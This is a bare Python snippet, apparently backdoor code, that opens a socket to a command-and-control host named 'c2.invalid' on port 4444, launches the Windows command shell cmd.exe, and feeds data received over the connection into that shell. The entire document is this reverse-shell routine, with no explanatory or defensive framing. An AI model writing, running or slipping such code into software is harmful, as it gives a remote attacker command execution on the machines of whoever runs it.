import socket
import subprocess

def back():
    link = socket.socket()
    link.connect(("c2.invalid", 4444))
    shell = subprocess.Popen(["cmd.exe"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    shell.stdin.write(link.recv(100))
